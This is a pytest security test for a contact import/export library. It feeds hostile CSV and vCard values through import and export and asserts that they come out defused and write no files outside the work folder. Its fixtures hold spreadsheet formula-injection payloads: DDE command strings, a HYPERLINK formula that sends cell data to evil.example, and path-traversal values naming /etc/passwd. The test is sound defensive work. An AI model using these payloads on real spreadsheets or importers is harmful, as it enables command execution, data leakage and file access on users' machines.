"""Hostile content inside contact files: formulas, control characters, bidi tricks and
path-like values go in through import and come out through export defused, and nothing
is ever written anywhere a file's content names."""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

import dexio
from dexio.export import export
from dexio.pipeline import import_files
from dexio.sandbox import Sandbox

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "tab\there\x00nul\x1bescape\x07bell",
    "right\u202eto\u202cleft",
    "../../../../tmp/dexio-escape.txt",
    "/etc/passwd",
]
FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def files_under(folder: Path) -> set[Path]:
    # os.walk skips what vanishes mid-walk: /tmp is shared with other processes, and
    # Path.rglob raised FileNotFoundError when one of them removed a folder meanwhile.
    return {Path(root, name) for root, dirs, files in os.walk(folder) for name in dirs + files}


@pytest.mark.timeout(120)
def test_hostile_cells_go_in_and_come_out_defused_and_write_nowhere(
    tmp_path: Path, dex_sandbox: Callable[..., Sandbox], monkeypatch: pytest.MonkeyPatch
) -> None:
    box = dex_sandbox()
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    source = work / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(["First Name", "Last Name", "Email", "Company", "Job Title", "Notes"])
        for i, text in enumerate(HOSTILE):
            out.writerow([f"Hal{i}", text, f"hal{i}@hostile.example", text, text, text])
    vcard = work / "hostile.vcf"
    vcard.write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:=1+1\r\nN:=1+1;@x;;;\r\nORG:+cmd|' /C calc'!A0\r\n"
        "EMAIL:vc@hostile.example\r\nPHOTO;VALUE=uri:file:///etc/passwd\r\n"
        "X-ATTACHMENT:../../../../tmp/dexio-escape-vcf.txt\r\nNOTE:a\\nb\x00c\r\nEND:VCARD\r\n",
        encoding="utf-8",
    )
    outside = {p: files_under(p) for p in (tmp_path, Path("/tmp"))}
    with dexio.Dex(api_key=box.api_key, base_url=box.base_url) as dex:
        result = import_files([source, vcard], dex=dex, report_dir=work / "report", quiet=True)
        assert result.input_records == len(HOSTILE) + 1
        assert result.counts["created"] == len(HOSTILE) + 1, result.counts
        for name in ("all.csv", "all.xlsx", "all.vcf", "all.jsonl"):
            notes = "notes" if name in ("all.csv", "all.jsonl") else ()
            export(work / name, dex=dex, include=notes, progress=False)

    for path in (work / "all.csv", work / "notes.csv", *(work / "report").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        live = [c for c in cells if FORMULA_START.match(c)]
        assert live == [] or path.parent.name == "report", (path.name, live[:3])
        assert "\x00" not in "".join(cells)
    # The result files of the import are spreadsheets too: they must be defused as well.
    report_cells = [
        cell for p in (work / "report").glob("*.csv")
        for row in csv.reader(p.open(encoding="utf-8", newline="")) for cell in row
    ]  # fmt: skip
    assert not [c for c in report_cells if FORMULA_START.match(c)], "live formula in a report"

    book = openpyxl.load_workbook(work / "all.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    # Dex itself holds the text as given (defusing is for spreadsheets, not the CRM).
    exported = dexio.read(work / "all.jsonl")
    assert exported.height == len(HOSTILE) + 1
    # Nothing appeared anywhere but the work folder, whatever paths the files named.
    for folder, before in outside.items():
        new = {p for p in files_under(folder) - before if work not in p.parents}
        assert not [p for p in new if "dexio-escape" in p.name or folder == tmp_path], new
    assert not Path("/tmp/dexio-escape.txt").exists()
    assert not os.path.exists("/tmp/dexio-escape-vcf.txt")
